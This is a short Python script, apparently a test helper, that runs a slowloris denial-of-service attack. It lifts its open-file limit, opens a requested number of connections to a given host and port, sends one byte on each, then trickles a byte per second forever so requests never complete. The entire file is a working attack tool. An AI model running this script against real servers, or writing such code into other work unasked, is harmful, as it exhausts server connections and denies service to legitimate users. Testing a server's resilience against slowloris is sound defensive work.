"""A hostile local user: COUNT connections to ADDR that each send one byte of a request and
then trickle a byte a second, never finishing it (a slowloris)."""
import resource
import socket
import sys
import time

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

host, port = sys.argv[1].rsplit(":", 1)
count = int(sys.argv[2])
conns = []
for _ in range(count):
    try:
        s = socket.create_connection((host, int(port)), timeout=5)
        s.sendall(b"G")
        conns.append(s)
    except OSError:
        pass
print(f"ready {len(conns)}", flush=True)
while True:
    time.sleep(1)
    for s in list(conns):
        try:
            s.sendall(b"E")
        except OSError:
            conns.remove(s)
